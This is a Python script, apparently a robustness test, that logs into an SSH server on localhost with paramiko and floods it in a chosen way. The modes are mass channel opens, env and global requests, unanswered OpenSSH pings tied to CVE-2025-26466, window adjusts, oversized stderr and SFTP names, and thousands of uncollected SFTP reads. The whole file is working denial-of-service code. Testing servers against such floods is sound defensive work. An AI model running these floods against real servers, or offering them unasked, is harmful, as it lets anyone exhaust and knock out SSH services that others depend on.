"""Says on one connection what no honest client says, and stays. Prints "begins" when it is
logged in and "flooded" when it is done.

python flood.py KIND PORT USER KEY FOLDER
"""

import struct
import sys
import time

import paramiko
from paramiko.message import Message


def string(data):
    return struct.pack(">I", len(data)) + data


def message(number, *parts):
    m = Message()
    m.add_byte(bytes([number]))
    for part in parts:
        m.packet.write(part)
    return m


def sftp_message(kind, *parts):
    body = bytes([kind]) + b"".join(parts)
    return string(body)


def opens(transport):
    for n in range(20_000):
        transport._send_message(
            message(
                90, string(b"session"), struct.pack(">III", 1000 + n, 1 << 20, 1 << 15)
            )
        )


def requests(transport):
    channel = transport.open_session()
    for _ in range(20_000):
        transport._send_message(
            message(
                98,
                struct.pack(">I", channel.remote_chanid),
                string(b"env"),
                b"\1",
                string(b"x" * 100),
                string(b"y" * 1000),
            )
        )


def global_requests(transport):
    for _ in range(20_000):
        transport._send_message(message(80, string(b"x" * 1000), b"\1"))


def pings(transport):
    """OpenSSH's ping@openssh.com, whose answers nobody collects (CVE-2025-26466)."""
    transport._handler_table = dict(transport._handler_table)
    transport._handler_table[193] = lambda answer: time.sleep(60)
    for _ in range(2_000):
        transport._send_message(message(192, string(b"p" * 30_000)))


def adjusts(transport):
    """Windows that open and open."""
    channel = transport.open_session()
    for _ in range(50_000):
        transport._send_message(
            message(93, struct.pack(">II", channel.remote_chanid, 1 << 12))
        )


def extended(transport):
    channel = transport.open_session()
    channel.invoke_subsystem("sftp")
    for _ in range(2_000):
        channel.send_stderr(b"z" * 30_000)


def sftp(transport):
    channel = transport.open_session()
    channel.invoke_subsystem("sftp")
    channel.sendall(sftp_message(1, struct.pack(">I", 3)))
    head = channel.recv(4)
    channel.recv(struct.unpack(">I", head)[0])
    return channel


def names(transport):
    """Names as long as a message can be."""
    channel = sftp(transport)
    for n in range(200):
        channel.sendall(sftp_message(17, struct.pack(">I", n), string(b"a" * 200_000)))
        head = channel.recv(4)
        left = struct.unpack(">I", head)[0]
        while left > 0:
            left -= len(channel.recv(left))


def reads(transport):
    """10,000 reads outstanding, and nobody collects what comes."""
    channel = sftp(transport)
    path = sys.argv[5].encode() + b"/big"
    channel.sendall(
        sftp_message(3, struct.pack(">I", 1), string(path), struct.pack(">II", 1, 0))
    )
    head = channel.recv(4)
    answer = channel.recv(struct.unpack(">I", head)[0])
    assert answer[0] == 102, answer
    handle = string(answer[9:])
    asked = [
        sftp_message(
            5, struct.pack(">I", 2 + n), handle, struct.pack(">QI", n * 32768, 32768)
        )
        for n in range(10_000)
    ]
    channel.settimeout(3)
    try:
        channel.sendall(b"".join(asked))
    except TimeoutError:
        # The server takes no more before its answers are collected, which is right.
        pass


kind, port, user, key = sys.argv[1:5]
client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect(
    "127.0.0.1",
    port=int(port),
    username=user,
    key_filename=key,
    allow_agent=False,
    look_for_keys=False,
)
print("begins", flush=True)
try:
    globals()[kind](client.get_transport())
except (paramiko.SSHException, EOFError, OSError) as e:
    print("ended:", e, flush=True)
print("flooded", flush=True)
time.sleep(30)
